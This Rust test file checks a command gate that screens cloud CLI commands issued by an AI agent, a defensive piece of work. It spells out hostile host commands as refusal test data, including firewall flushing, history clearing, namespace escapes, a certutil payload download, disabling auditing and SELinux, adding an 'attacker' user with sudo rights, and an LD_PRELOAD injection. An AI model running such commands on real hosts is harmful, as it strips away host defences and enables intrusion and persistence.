//! The gate held against upstream's own security tests (`server/tests/security/*` of
//! Arvo-AI/aurora): what they expect refused is refused here, in every mode, and what must stay
//! usable stays usable.

use super::*;

const MODES: [RunMode; 3] = [RunMode::Ask, RunMode::Agent, RunMode::Background];

/// Host commands from upstream's lateral-movement, LD_PRELOAD and credential-creation tests
/// (the ones with no shell operator, which the metacharacter check refuses anyway), sent to a
/// cloud CLI tool as if they were its subcommands.
const HOST_COMMANDS: &[(&str, &str)] = &[
    ("iptables -F", "a firewall tool"),
    (
        "iptables -A INPUT -p tcp --dport 4444 -j ACCEPT",
        "a firewall tool",
    ),
    (
        "nft add rule inet filter input tcp dport 4444 accept",
        "a firewall tool",
    ),
    ("ufw disable", "a firewall tool"),
    ("history -c", "a shell builtin"),
    ("unset HISTFILE", "a shell builtin"),
    (
        "nsenter --target 1 --mount --uts --ipc --pid -- /bin/bash",
        "a namespace",
    ),
    ("unshare --map-root-user /bin/bash", "a namespace"),
    ("chroot /mnt/host /bin/sh", "a namespace"),
    (
        "certutil -urlcache -split -f http://x/a.exe a.exe",
        "a host security tool",
    ),
    ("auditctl -D", "a host security tool"),
    ("setenforce 0", "a host security tool"),
    ("ssh-keygen -t ed25519 -f /tmp/k", "a host security tool"),
    ("ssh-copy-id user@target-host", "a host security tool"),
    ("useradd -m -s /bin/bash attacker", "a user or privilege"),
    ("usermod -aG sudo evil", "a user or privilege"),
    ("passwd root", "a user or privilege"),
    ("visudo", "a user or privilege"),
    ("gcc -o x x.c", "a compiler"),
    ("cc x.c", "a compiler"),
    ("ld.so /tmp/evil", "a dynamic loader"),
    ("/lib64/ld-linux-x86-64.so.2 /tmp/evil", "a dynamic loader"),
];

/// A global flag with its value, as it may come before the command.
fn global_flag(cli: Cli) -> &'static str {
    match cli {
        Cli::Gcloud => "--project p",
        Cli::Aws => "--region eu-west-1",
        Cli::Az => "--subscription s",
        Cli::Scw => "-p prod",
        Cli::Tailscale => "--socket /run/ts.sock",
        Cli::Ovh => "-f id",
        Cli::Kubectl => "-n prod",
    }
}

#[test]
fn host_commands_are_never_read_as_a_cli_subcommand() {
    let policy = Policy::default();
    for cli in Cli::ALL {
        let binary = cli.binary();
        let flag = global_flag(cli);
        for &(command, what) in HOST_COMMANDS {
            // Given bare, after the CLI's own binary (`aws iptables -F`), after its global
            // flags, after `--`, and taken by a flag the gate does not know.
            for line in [
                command.to_owned(),
                format!("{binary} {command}"),
                format!("{binary} {flag} {command}"),
                format!("{binary} -- {command}"),
                format!("{binary} --mystery {command}"),
            ] {
                for mode in MODES {
                    let decision = check(cli, &line, mode, &policy);
                    assert_eq!(decision.verdict, Verdict::Refuse, "{cli} {line:?} {mode:?}");
                    assert!(decision.argv.is_empty(), "{line:?}");
                    assert!(
                        decision.reason.contains(what)
                            || decision.reason.contains("another program"),
                        "{line:?}: {}",
                        decision.reason
                    );
                }
            }
        }
    }
}

#[test]
fn a_host_command_names_what_it_is_and_the_tool() {
    // Bare, or behind aws's global flags (where it would be read as an aws service).
    for line in ["iptables -F", "aws --region eu-west-1 iptables -F"] {
        let decision = check(Cli::Aws, line, RunMode::Ask, &Policy::default());
        assert_eq!(
            decision.reason,
            "`iptables` is a firewall tool, never a aws command; only aws commands can run \
             through this tool",
            "{line}"
        );
    }
}

#[test]
fn help_is_read_only_only_when_it_is_literally_help() {
    let policy = Policy::default();
    // Given `help`, `--help` or `-h` where the CLI reads them, or the bare binary (it prints
    // its usage),
    for (cli, line) in [
        (Cli::Aws, "aws help"),
        (Cli::Aws, "aws ec2 help"),
        (Cli::Aws, "aws ec2 --help"),
        (Cli::Aws, "aws"),
        (Cli::Gcloud, "gcloud help compute instances"),
        (Cli::Gcloud, "gcloud compute instances -h"),
        (Cli::Az, "az vm --help"),
        (Cli::Scw, "scw help"),
        (Cli::Ovh, "ovh cloud instance --help"),
        (Cli::Tailscale, "tailscale up --help"),
        (Cli::Kubectl, "kubectl rollout --help"),
        (Cli::Kubectl, "kubectl help rollout"),
    ] {
        // when checked in ask mode, then it is allowed as help.
        let decision = check(cli, line, RunMode::Ask, &policy);
        assert_eq!(
            decision.verdict,
            Verdict::Allow,
            "{line}: {}",
            decision.reason
        );
        assert!(
            decision.reason.contains("only prints help or usage"),
            "{line}: {}",
            decision.reason
        );
    }
}

#[test]
fn environment_assignments_such_as_ld_preload_are_refused() {
    for line in [
        "LD_PRELOAD=/evil.so kubectl get pods",
        "LD_PRELOAD=/foo.so get pods",
    ] {
        let decision = check(Cli::Kubectl, line, RunMode::Agent, &Policy::default());
        assert_eq!(decision.verdict, Verdict::Refuse, "{line}");
        assert!(decision.argv.is_empty(), "{line}");
        assert!(
            decision.reason.contains("LD_PRELOAD"),
            "{}",
            decision.reason
        );
    }
}

/// Commands the gate cannot read: verbs not in the CLI's vocabulary, and commands that name a
/// service or group but no operation (a usage error at best), one or more per CLI family.
const UNKNOWN_COMMANDS: &[(Cli, &str)] = &[
    (Cli::Gcloud, "gcloud compute instances frobnicate vm1"),
    (Cli::Tailscale, "tailscale frobnicate"),
    (Cli::Aws, "aws lambda invoke --function-name f out.json"),
    (Cli::Az, "az vm frobnicate --name vm1"),
    (Cli::Scw, "scw instance server frobnicate 1"),
    (Cli::Ovh, "ovh cloud project frobnicate"),
    // No operation, or one a flag the gate does not know took.
    (Cli::Aws, "aws ec2"),
    (Cli::Aws, "aws frobnicate"),
    (Cli::Aws, "aws --region eu-west-1 lambda"),
    (Cli::Aws, "aws --mystery ec2 describe-instances"),
    (Cli::Gcloud, "gcloud compute instances"),
    (Cli::Gcloud, "gcloud --mystery compute"),
    (Cli::Az, "az vm"),
    (Cli::Scw, "scw instance server"),
    (Cli::Ovh, "ovh cloud instance"),
    (Cli::Tailscale, "tailscale --mystery down"),
    (Cli::Kubectl, "kubectl rollout"),
    (Cli::Kubectl, "kubectl rollout --mystery undo"),
    (Cli::Kubectl, "kubectl --mystery delete"),
];

#[test]
fn unknown_verbs_are_refused_in_ask_and_background_and_confirmed_in_agent_mode() {
    let policy = Policy::default();
    // Given a command the gate cannot read (`aws ec2` is no help either),
    for &(cli, line) in UNKNOWN_COMMANDS {
        // when checked, it is refused in ask mode and background runs and asked in agent mode.
        let ask = check(cli, line, RunMode::Ask, &policy);
        assert_eq!(ask.verdict, Verdict::Refuse, "{line}: {}", ask.reason);
        assert_eq!(ask.class, Some(Class::Unknown), "{line}");
        assert!(
            ask.reason.contains("not a command the gate knows"),
            "{}",
            ask.reason
        );
        let background = check(cli, line, RunMode::Background, &policy);
        assert_eq!(background.verdict, Verdict::Refuse, "{line}");
        let agent = check(cli, line, RunMode::Agent, &policy);
        assert_eq!(agent.verdict, Verdict::Confirm, "{line}: {}", agent.reason);
        assert!(
            agent.reason.contains("explicit confirmation"),
            "{}",
            agent.reason
        );
    }
}

#[test]
fn kubectl_plugins_are_treated_like_exec() {
    let policy = Policy::default();
    for (line, argv) in [
        (
            "kubectl node-shell my-node",
            vec!["kubectl", "node-shell", "my-node"],
        ),
        (
            "node-shell my-node",
            vec!["kubectl", "node-shell", "my-node"],
        ),
        (
            "kubectl-node_shell my-node",
            vec!["kubectl", "node-shell", "my-node"],
        ),
        (
            "/usr/local/bin/kubectl-ns prod",
            vec!["kubectl", "ns", "prod"],
        ),
        (
            "kubectl krew install ctx",
            vec!["kubectl", "krew", "install", "ctx"],
        ),
    ] {
        let exec = check(
            Cli::Kubectl,
            "kubectl exec api -- id",
            RunMode::Agent,
            &policy,
        );
        let agent = check(Cli::Kubectl, line, RunMode::Agent, &policy);
        assert_eq!(agent.verdict, exec.verdict, "{line}: {}", agent.reason);
        assert_eq!(agent.verdict, Verdict::Confirm, "{line}");
        assert_eq!(agent.class, Some(Class::Destructive), "{line}");
        assert_eq!(agent.argv, argv, "{line}");
        assert!(agent.reason.contains("plugin"), "{}", agent.reason);
        for mode in [RunMode::Ask, RunMode::Background] {
            assert_eq!(
                check(Cli::Kubectl, line, mode, &policy).verdict,
                Verdict::Refuse,
                "{line}"
            );
        }
    }
    // Listing plugins only reads.
    let list = check(Cli::Kubectl, "kubectl plugin list", RunMode::Ask, &policy);
    assert_eq!(list.verdict, Verdict::Allow);
}

#[test]
fn ordinary_cloud_commands_stay_usable_in_ask_mode() {
    let policy = Policy::default();
    for (cli, line) in [
        (Cli::Kubectl, "kubectl get pods -n prod"),
        (Cli::Kubectl, "kubectl logs api-7d9 --tail 100"),
        (Cli::Aws, "aws ec2 describe-instances --region eu-west-1"),
        (
            Cli::Aws,
            r#"aws logs filter-log-events --log-group-name app --filter-pattern "ERROR;timeout""#,
        ),
        (
            Cli::Gcloud,
            r#"gcloud logging read "severity>=ERROR AND resource.type=k8s_container" --limit 20"#,
        ),
        (Cli::Az, "az vm list -o table"),
        (Cli::Tailscale, "tailscale status"),
        // A namespace, project or profile named like a host program is only a flag's value.
        (Cli::Kubectl, "kubectl -n bash get pods"),
        (
            Cli::Gcloud,
            "gcloud --project python3 compute instances list",
        ),
        (Cli::Aws, "aws --profile make ec2 describe-instances"),
    ] {
        let decision = check(cli, line, RunMode::Ask, &policy);
        assert_eq!(
            decision.verdict,
            Verdict::Allow,
            "{line}: {}",
            decision.reason
        );
    }
}
